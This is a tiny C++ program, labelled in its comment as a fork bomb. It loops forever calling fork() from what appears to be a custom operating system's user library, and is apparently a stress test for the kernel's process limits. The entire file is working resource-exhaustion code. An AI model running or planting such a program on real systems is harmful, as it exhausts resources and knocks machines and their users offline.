// A fork bomb: every process makes as many more as it can, for ever.
#include <user/process.h>

int main() {
  for (;;) static_cast<void>(user::fork());
}
